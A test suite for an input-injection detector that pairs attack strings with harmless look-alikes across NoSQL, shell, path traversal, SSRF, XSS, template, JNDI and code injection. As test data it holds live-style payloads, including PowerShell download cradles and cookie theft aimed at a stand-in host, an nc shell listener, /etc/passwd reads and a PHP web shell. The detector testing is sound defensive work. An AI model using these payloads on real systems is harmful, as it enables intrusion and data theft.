import { describe, expect, it } from 'vitest';
import { detectValue, type Category, type DetectContext, type Level } from './index.js';

function category(value: string, ctx?: DetectContext): Category | undefined {
  return detectValue(value, ctx)?.category;
}

describe('detectValue, one attack and its legitimate twin per category', () => {
  it.each<[Category, string, string, DetectContext | undefined]>([
    ['nosqli', 'user[$ne]=1', 'user[name]=1', undefined],
    ['nosqli', '{"password": {"$gt": ""}}', '{"price": "$5"}', undefined],
    ['nosqli', "' || '1'=='1", "'a' || 'b'", undefined],
    ['cmdi', 'file.txt; cat /etc/passwd', 'fish; cat lovers unite', undefined],
    ['cmdi', '127.0.0.1 | id', 'Tom | Jerry', undefined],
    ['cmdi', 'x$(whoami)', '$(document).ready(fn)', undefined],
    ['cmdi', 'a`id`', 'Run `npm test` first', undefined],
    ['cmdi', '127.0.0.1%0aid', 'line one\nline two', undefined],
    ['cmdi', 'x;sleep 5', 'Wake up; sleep 8 hours', undefined],
    ['path-traversal', '../../../etc/passwd', '../README.md', undefined],
    ['path-traversal', '..%252f..%252f..%252fetc%252fpasswd', 'docs/guide/intro.md', undefined],
    ['path-traversal', '../config.json', 'config.json', { kind: 'path' }],
    ['path-traversal', '/etc/shadow', 'edit /etc/hosts to add a name', undefined],
    ['ssrf', 'http://169.254.169.254/latest/meta-data/', 'https://example.com/latest', { kind: 'url' }],
    ['ssrf', 'http://2130706433/', 'http://93.184.216.34/', { kind: 'url' }],
    ['ssrf', 'http://[::ffff:127.0.0.1]:8080/', 'http://[2606:4700::1111]/', { kind: 'url' }],
    ['ssrf', 'gopher://127.0.0.1:6379/_INFO', 'https://gopher.example.com/', { kind: 'url' }],
    ['ssrf', 'localhost:6379', 'example.com:443', { kind: 'url' }],
    ['ssrf', 'http://127.0.0.1.nip.io/', 'https://nip.example.io/', { kind: 'url' }],
    ['xss', '<script>alert(1)</script>', '<b>bold</b> text', undefined],
    ['xss', '<img src=x onerror=alert(1)>', '<img src="cat.png" alt="a cat">', undefined],
    ['xss', '" onmouseover="alert(1)', 'the online= flag', undefined],
    ['xss', 'javascript:alert(document.cookie)', 'java script: a language', { kind: 'rendered' }],
    ['xss', '&lt;svg onload=alert(1)&gt;', 'a &lt; b', undefined],
    ['prototype-pollution', '__proto__.isAdmin', 'proto.isAdmin', undefined],
    ['prototype-pollution', 'constructor[prototype][x]', 'constructor name', undefined],
    ['ssti', '{{7*7}}', 'Hello {{first_name}}', undefined],
    ['ssti', "${T(java.lang.Runtime).getRuntime().exec('id')}", 'Dear ${user.name},', undefined],
    ['jndi', '${jndi:ldap://x.example/a}', '${HOME}/bin', undefined],
    ['code', "require('child_process').exec('id')", 'require a signature on delivery', undefined],
  ])('%s: refuses %j and passes %j', (cat, attack, twin, ctx) => {
    expect(category(attack, ctx)).toBe(cat);
    expect(detectValue(twin, ctx)).toBeUndefined();
  });

  it('leaves loopback URLs in free text to level 2, and refuses metadata addresses and disguised spellings at level 1', () => {
    expect(category('see http://localhost:3000 for docs')).toBeUndefined();
    expect(category('http://localhost:3000/admin')).toBeUndefined();
    expect(category('http://localhost:3000/admin', { level: 2 })).toBe('ssrf');
    expect(category('http://169.254.169.254/latest/')).toBe('ssrf');
    expect(category('http://0x7f.1/')).toBe('ssrf');
  });

  it('checks only the categories asked for', () => {
    expect(detectValue("' OR 1=1--", { categories: new Set(['xss']) })).toBeUndefined();
    expect(detectValue("' OR 1=1--", { categories: new Set(['sqli']) })?.category).toBe('sqli');
  });

  it('returns undefined for plain values on the fast path', () => {
    for (const v of ['hello', 'Jean-Luc Picard', 'a.b@example.com', '42', 'v1.2.3']) expect(detectValue(v, { level: 4 })).toBeUndefined();
  });
});

/** Attack, legitimate twin, level at which the attack is refused. */
type Case = [string, string, Level];

describe('shell: POSIX sh, cmd.exe and PowerShell read as their interpreters read them', () => {
  it.each<Case>([
    [';/bin/ca? /et?/pa??wd', '; pick ca? or ?? later', 1],
    [';cat /etc/pa[s]swd', 'see [s] in the notes', 1],
    ["w'h'o'am'i", "who's am I", 1],
    ['c\\at /etc/passwd', 'C:\\Program Files', 1],
    [';cat${IFS}/etc/passwd', '${NAME} joined', 1],
    ['`echo${IFS}x`', 'Use `echo` to print', 1],
    [';{cat,/etc/passwd}', '{red,green} apples', 1],
    ['CMD=$\'id\';$CMD', 'CMD=build; run it', 1],
    ['a$[2+2]b', 'costs $2 + $2', 2],
    [';uname$u -a', 'uname: the user name', 1],
    ['() { :; }; /bin/bash -c id', 'function f() { return 1; }', 1],
    ['&w^h^o^a^m^i', 'R&D ^ 2', 1],
    ['& %COMSPEC% /c ver', 'save 20% on %ITEM%', 1],
    ['| cmd.exe /k whoami', 'cmd + click opens it', 1],
    ['&type C:\\Windows\\win.ini', 'type: C:\\Users\\Public', 1],
    [';iwr http://x.example/a.ps1 -OutFile a.ps1', 'iwr: the initials', 1],
    ["IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')", 'IEX Cloud prices', 1],
    ['powershell -nop -w hidden -enc SQBFAFgA', 'PowerShell is a shell', 1],
    [';Invoke-WebRequest -Uri http://x.example/x', 'Get-Started guide; Set-Cookie header', 1],
    ['<!--#exec cmd="/usr/bin/id"-->', '<!-- a comment -->', 1],
    ['nc -lvvp 4444 -e /bin/sh', 'NC-17 rating', 1],
    ['uname -a', 'unames of users', 2],
    ['ping -c 3 127.0.0.1', 'ping me at 5', 2],
  ])('refuses %j and passes %j', (attack, twin, level) => {
    const d = detectValue(attack, { level });
    expect(d?.category).toMatch(/^(cmdi|path-traversal)$/);
    expect(d?.level).toBeLessThanOrEqual(level);
    expect(detectValue(twin, { level: 2 })).toBeUndefined();
    if (level > 1) expect(detectValue(attack, { level: 1 })).toBeUndefined();
  });

  it('treats a typed newline in a text field as prose and an encoded one (or one in a URL) as a separator', () => {
    expect(detectValue('first line\nid', { level: 1 })).toBeUndefined();
    expect(detectValue('first line%0aid', { level: 1 })?.category).toBe('cmdi');
    expect(detectValue('first line\nid', { level: 1, encodedNewlines: true })?.category).toBe('cmdi');
  });
});

describe('script injection outside a plain <script>', () => {
  it.each<Case>([
    ['<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>', '<x:p xmlns:x="urn:x">text</x:p>', 1],
    ['<img src=x onerror  =alert(1)>', '<img src=x alt="onerror handling">', 1],
    ['<svg/onload=alert(1)>', '<svg-icon name="home">', 1],
    ['<div style="background:url(javascript:alert(1))">', '<div style="background:url(/img/bg.png)">', 1],
    ['<p style="x:expr/**/ession(alert(1))">', 'an expression (in maths)', 1],
    ['<a href="jav&#x09;ascript:alert(1)">x</a>', '<a href="https://example.com/javascript">x</a>', 1],
    ['<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">', 'data: text/html is a type', 1],
    ['<a href="data:,<script>alert(1)</script>">', '<a href="data:,hello">', 1],
    ['<svg><animate onbegin=alert(1) attributeName=x>', '<svg><rect width=10 /></svg>', 1],
    ['<math><maction xlink:href="javascript:alert(1)">x</maction></math>', '<math><mi>x</mi></math>', 1],
    ["';alert(String.fromCharCode(88,83,83))//", "it's - alert level 2", 1],
    ['"><svg onload=alert(1)>', '"><b>quoted</b>', 1],
    ['<form action=https://evil.example><input name=p>', '<p>fill in the form</p>', 2],
    ['+ADw-script+AD4-alert(1)+ADw-/script+AD4-', '+AD is a tag', 2],
    ['document.location="http://x.example/?"+document.cookie', 'the document location', 1],
    ['x=document.cookie', 'the cookie document', 2],
    ['<p class="x">rich text</p>', 'rich text', 3],
  ])('refuses %j and passes %j', (attack, twin, level) => {
    expect(detectValue(attack, { level })?.category).toMatch(/^(xss|code)$/);
    expect(detectValue(twin, { level: 2 })).toBeUndefined();
    if (level > 1) expect(detectValue(attack, { level: level - 1 as Level })).toBeUndefined();
  });
});

describe('template, expression-language, JNDI and server-side code injection', () => {
  it.each<Case>([
    ['${7*7}', '${price}', 1],
    ['<%= 7*7 %>', '<%= user.name %>', 1],
    ['#{7*7}', '#{id}', 1],
    ["{{''.__class__.__mro__[1].__subclasses__()}}", '{{ user.first }}', 1],
    ['<#assign ex="freemarker.template.utility.Execute"?new()>', '<b>assign it</b>', 1],
    ['{{config.items()}}', '{{ config_name }}', 1],
    ['{{ user.greet() }}', '{{ user.greeting }}', 2],
    ['${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://x.example/a}', '${a}${b}', 1],
    ['${${lower:j}ndi:${lower:l}dap://x.example/a}', '${lower:Name}', 1],
    ['${${env:NOPE:-j}ndi:ldap://x.example/}', '${VAR:-default}', 1],
    ["${${date:'j'}ndi:ldap://x.example/}", "${date:'yyyy'}", 1],
    ['${env:AWS_SECRET_ACCESS_KEY}', '${ENV_NAME}', 2],
    ['<?php system($_GET["c"]); ?>', '<?xml version="1.0"?><a/>', 1],
    ["system('id');", 'operating system(s) supported', 1],
    ['java.lang.Runtime.getRuntime().exec("id")', 'Java runtime environment', 1],
    ["__import__('os').system('id')", 'import os from the docs', 1],
    ['O:8:"stdClass":1:{s:4:"cmd";s:2:"id";}', 'O: 8 items', 1],
    ['_$$ND_FUNC$$_function(){}()', 'ND FUNC', 1],
    ["eval(atob('YWxlcnQoMSk='))", 'evaluate the atob', 1],
  ])('refuses %j and passes %j', (attack, twin, level) => {
    expect(detectValue(attack, { level })).toBeDefined();
    expect(detectValue(twin, { level: 2 })).toBeUndefined();
    if (level > 1) expect(detectValue(attack, { level: level - 1 as Level })).toBeUndefined();
  });
});

describe('every decision explains itself', () => {
  it('names the rule, its level, why, and the token sequence that decided', () => {
    const d = detectValue("x' OR 1=1-- ");
    expect(d).toMatchObject({ category: 'sqli', rule: 'sqli.tautology', level: 1 });
    expect(d?.reason).toMatch(/logic operator/);
    expect(d?.tokens.slice(0, 4)).toEqual(["'", 'OR', '1', '=']);
    const c = detectValue(';/bin/ca? /et?/pa??wd');
    expect(c).toMatchObject({ category: 'cmdi', rule: 'cmdi.obfuscated-command' });
    expect(c?.tokens).toEqual([';', '/bin/ca?', '/et?/pa??wd']);
    const j = detectValue('${${lower:j}ndi:ldap://x.example/a}');
    expect(j?.rule).toBe('jndi.nested-lookup');
    expect(j?.tokens[1]).toBe('jndi:ldap://x.example/a');
  });

  it('fires a rule at its own level and every level above, never below', () => {
    const attack = 'select current_user;';
    expect(detectValue(attack, { level: 1 })).toBeUndefined();
    for (const level of [2, 3, 4] as const) expect(detectValue(attack, { level })?.rule).toBe('sqli.statement');
  });
});
